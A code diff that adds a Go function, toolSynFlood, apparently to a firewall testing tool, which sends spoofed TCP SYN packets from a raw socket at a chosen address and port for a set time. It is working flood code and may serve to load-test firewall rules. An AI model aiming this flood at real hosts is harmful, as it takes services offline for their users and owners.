@@ -695,3 +695,60 @@ func toolNftDropInvalid(args []string) error {
 	}
 	return c.Flush()
 }
+
+// toolSynFlood sends TCP SYNs to addr for the given seconds, as fast as one sender can, each
+// from another address of 198.18.0.0/15 (the benchmarking range) and port: a spoofed flood,
+// which nothing ever answers. It prints how many it sent and the rate.
+func toolSynFlood(args []string) error {
+	if len(args) != 2 {
+		return errors.New("usage: syn-flood IP:PORT SECONDS")
+	}
+	dst, err := netip.ParseAddrPort(args[0])
+	if err != nil || !dst.Addr().Is4() {
+		return fmt.Errorf("syn-flood: want IPv4:PORT, got %q", args[0])
+	}
+	secs, _ := strconv.ParseFloat(args[1], 64)
+	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
+	if err != nil {
+		return err
+	}
+	defer syscall.Close(fd)
+	to := &syscall.SockaddrInet4{Addr: dst.Addr().As4()}
+	var pkt [40]byte
+	pkt[0], pkt[8], pkt[9] = 0x45, 64, syscall.IPPROTO_TCP
+	binary.BigEndian.PutUint16(pkt[2:], 40)
+	d := dst.Addr().As4()
+	copy(pkt[16:20], d[:])
+	binary.BigEndian.PutUint16(pkt[22:], dst.Port())
+	pkt[32], pkt[33] = 5<<4, 0x02 // header length, SYN
+	binary.BigEndian.PutUint16(pkt[34:], 64240)
+	start := time.Now()
+	end := start.Add(time.Duration(secs * float64(time.Second)))
+	sent := 0
+	for i := uint32(0); ; i++ {
+		if i%256 == 0 && time.Now().After(end) {
+			break
+		}
+		src := [4]byte{198, 18 | byte(i>>24)&1, byte(i >> 16), byte(i >> 8)}
+		src[3] ^= byte(i)
+		copy(pkt[12:16], src[:])
+		binary.BigEndian.PutUint16(pkt[4:], uint16(i))             // IP ID
+		binary.BigEndian.PutUint16(pkt[20:], 1024+uint16(i%60000)) // source port
+		binary.BigEndian.PutUint32(pkt[24:], i*2654435761)         // sequence
+		pkt[10], pkt[11], pkt[36], pkt[37] = 0, 0, 0, 0
+		binary.BigEndian.PutUint16(pkt[10:], checksum(pkt[:20]))
+		pseudo := make([]byte, 0, 32)
+		pseudo = append(append(append(pseudo, pkt[12:20]...), 0, syscall.IPPROTO_TCP, 0, 20), pkt[20:40]...)
+		binary.BigEndian.PutUint16(pkt[36:], checksum(pseudo))
+		if err := syscall.Sendto(fd, pkt[:], 0, to); err != nil {
+			if errors.Is(err, syscall.ENOBUFS) || errors.Is(err, syscall.EAGAIN) {
+				continue
+			}
+			return err
+		}
+		sent++
+	}
+	took := time.Since(start)
+	fmt.Printf("sent %d SYNs in %.1f s (%.0f/s)\n", sent, took.Seconds(), float64(sent)/took.Seconds())
+	return nil
+}
